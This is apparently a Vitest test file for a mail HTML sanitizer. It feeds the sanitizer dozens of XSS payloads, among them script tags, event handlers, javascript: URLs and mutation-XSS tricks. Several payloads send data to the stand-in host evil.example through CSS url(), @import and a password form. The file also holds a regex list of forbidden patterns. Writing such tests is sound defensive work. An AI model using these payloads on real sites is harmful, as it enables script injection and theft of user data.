import { expect, it } from 'vitest'
import { cleanHtml, textOf } from '#server/features/mail/clean.ts'

/** What no cleaned mail may hold, in any case of letters. */
const forbidden = [
  ...[/<(?!\/?(?:p|br|b|strong|i|em|u|s|a|ul|ol|li|blockquote|h[1-3]|img|code|pre|span)\b)/i, /\son\w+\s*=/i],
  ...[
    /javascript/i,
    /vbscript/i,
    /data:/i,
    /\sstyle\s*=/i,
    /expression\s*\(/i,
    /@import/i,
    /url\(/i,
    /srcdoc/i,
  ],
  ...[/alert/i, /evil\.example/i, /<!--/, /<!/, /<\?/, /\0/, /\sid\s*=/i, /\sclass\s*=/i],
]

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<script>alert(1)',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror  =  "alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(2)>x</p>',
  '<b ONFOCUS=alert(1) autofocus tabindex=1>x</b>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="data:x,alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>body{background:url(//evil.example/x)}</style>',
  '<style>input[value^=a]{background:url(//evil.example/a)}</style>x',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<span style="position:fixed;inset:0;width:expression(alert(1))">x</span>',
  '<div class="shell" id="root" style="display:none">x</div>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<applet code="x">alert</applet>',
  '<form action="//evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><option onclick=alert(1)>alert</option></select>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="/api/account/me" target="_top" ping="//evil.example/">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="javascript:alert(1)">',
  '<img srcset="//evil.example/x 1x" src="cid:a">',
  '<img src=//evil.example/x.png>',
  '<img src="/api/mails/file?id=1">',
  '<video src=//evil.example/x poster=//evil.example/y onerror=alert(1)><source src=x></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1) background="//evil.example/x">x',
  '<table background="//evil.example/x"><tr><td>x</td></tr></table>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <img src=x onerror=alert(1)> --!>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html SYSTEM "//evil.example/x.dtd">',
  '<p\0onclick=alert(1)>x</p>',
  '<p/onclick=alert(1)/>x',
  '<p title="x" onclick="alert(1)" "">x',
  '<a href="https://example.com" onclick=alert(1)',
  '<img src="cid:a" alt="`" onerror="alert(1)">',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<dialog open><slot name=x></slot></dialog>',
]

it.for(hostile)('removes everything dangerous from %j', (html) => {
  const clean = cleanHtml(html)
  // Text that was only text may stay, but it cannot be read as anything else.
  const tags = clean.replace(/>[^<]*/g, '>').replace(/^[^<]*/, '')
  for (const pattern of forbidden) expect(tags).not.toMatch(pattern)
  // Cleaning what is clean changes nothing: no second reading finds something else in it.
  expect(cleanHtml(clean)).toBe(clean)
})

it('keeps HTML from the editor unchanged', () => {
  const html = `<h1>One</h1><h2>Two</h2><h3>Three</h3><p>A <b>b</b> <strong>c</strong> <i>d</i> <em>e</em> <u>f</u>
    <s>g</s> <a href="https://example.com/?a=1&amp;b=2">h</a> <a href="mailto:x@example.com">i</a></p>
    <ul><li>j</li></ul><ol><li>k</li></ol><blockquote><p>l</p></blockquote><pre><code>m &lt; n</code></pre>
    <p><span>o</span><br /><img src="https://example.com/x.png" alt="p" /><img src="cid:q" /></p>`
  expect(cleanHtml(html)).toBe(html.replace('src="cid:q" />', 'src="cid:q" alt="" />'))
})

it('converts HTML to one line of text per paragraph without entities', () => {
  const html = '<h1>Hello</h1><p>a &lt;b&gt; &amp;amp; &quot;c&quot;</p><ul><li>d</li><li>e</li></ul>f<br>g'
  expect(textOf(cleanHtml(html))).toBe('Hello\na <b> &amp; "c"\nd\ne\nf\ng')
  expect(textOf(cleanHtml('<p>a</p>  <p></p><p></p>\n\n<p>b</p>'))).toBe('a\n\nb')
})

it.for([
  ...['b', 'blockquote', 'div', 'li', 'p', 'svg', 'table', 'span', 'x-y'].map((tag) => `<${tag}>`),
  ...['<', '&', '<a ', '<a href="', '<!--', '<p a=b ', '</p>', '&#x', '<b><i></b>', '<script>', ']]>'],
])('cleans 200,000 characters of %j in bounded time and depth', (piece) => {
  // Work, not time: what else the machine does is no one's fault.
  const before = process.cpuUsage()
  const clean = cleanHtml(piece.repeat(Math.floor(200_000 / piece.length)))
  expect(process.cpuUsage(before).user / 1000).toBeLessThan(5000)
  let [depth, deepest] = [0, 0]
  for (const [, end, , isVoid] of clean.matchAll(/<(\/?)(\w+)[^>]*?(\/?)>/g)) {
    depth += isVoid ? 0 : end ? -1 : 1
    deepest = Math.max(deepest, depth)
  }
  expect(deepest).toBeLessThanOrEqual(41)
})
